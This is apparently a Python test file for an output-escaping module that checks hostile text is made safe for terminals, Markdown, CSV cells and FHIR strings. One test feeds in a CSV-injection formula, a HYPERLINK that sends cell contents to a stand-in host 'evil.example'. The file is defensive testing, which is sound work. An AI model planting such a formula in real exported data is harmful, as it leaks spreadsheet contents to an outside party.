"""The escaping boundary of each medium (paintrack.render.safe), on hostile text."""

from __future__ import annotations

import re

from hypothesis import given

from paintrack.render import safe
from tests.hostile import hostile_text

HOSTILE = hostile_text
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@given(HOSTILE)
def test_terminal_text_holds_no_raw_control_character(text: str) -> None:
    shown = safe.terminal(text)
    assert not RAW_CONTROL.search(shown)
    assert "\n" not in safe.line(text)


@given(HOSTILE)
def test_markdown_text_cannot_start_a_block_or_make_a_link_image_or_html(text: str) -> None:
    shown = safe.markdown(text)
    assert "\n" not in shown and not RAW_CONTROL.search(shown)
    assert not re.search(r"(?<!\\)[\[\]<>`*_|]", shown.replace("\\\\", ""))
    assert not re.match(r"\s*\d*[#>+\-=.)](\s|$)", shown)
    assert not re.search(r"(?i)https?:|www\.", shown)


def test_a_spreadsheet_formula_is_neutralised_and_numbers_are_not() -> None:
    assert safe.csv_cell('=HYPERLINK("http://evil.example/?"&A1,"click")').startswith("'=")
    for start in "=+-@\t\r":
        assert str(safe.csv_cell(start + "1")).startswith("'")
    assert safe.csv_cell(-3) == -3 and safe.csv_cell("walked") == "walked"


def test_fhir_strings_keep_tab_and_newline_only() -> None:
    assert safe.fhir_string("a\x00b\x1bc\td\ne\rf") == "a\\x00b\\x1bc\td\ne\rf"
